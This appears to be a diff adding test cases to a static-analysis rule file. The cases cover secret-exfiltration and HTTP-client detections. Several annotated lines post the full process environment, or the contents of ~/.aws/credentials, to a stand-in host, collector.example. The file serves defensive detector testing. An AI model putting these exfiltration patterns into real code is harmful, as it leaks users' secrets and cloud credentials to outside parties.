@@ -586,3 +586,19 @@ _ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=_ssh)
 _ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=[{"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
 # ok: cloud-firewall-open-world
 _ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "203.0.113.0/24"}]}])
+# secret-exfiltration through a helper: the environment handed to a def that
+# reads a few keys of it sends those values, not the environment
+def _status_payload(env):
+    return {"branch": env.get("CI_BRANCH", "?"), "sha": env["CI_SHA"][:8], "ci": "CI" in env}
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post("https://hooks.slack.com/services/T/B/x", json=_status_payload(dict(os.environ)), timeout=10)
+def _everything(env):
+    return {"env": env}
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collector.example/e", json=_everything(dict(os.environ)), timeout=10)
+# a dict display handed to a def that reads keys of it: its values are what is read
+def _ship(job):
+    # ruleid: secret-exfiltration, http-client
+    requests.post(job["url"], data=job["body"], timeout=10)
+_ship({"url": "https://collector.example/k", "body": open(os.path.expanduser("~/.aws/credentials")).read()})
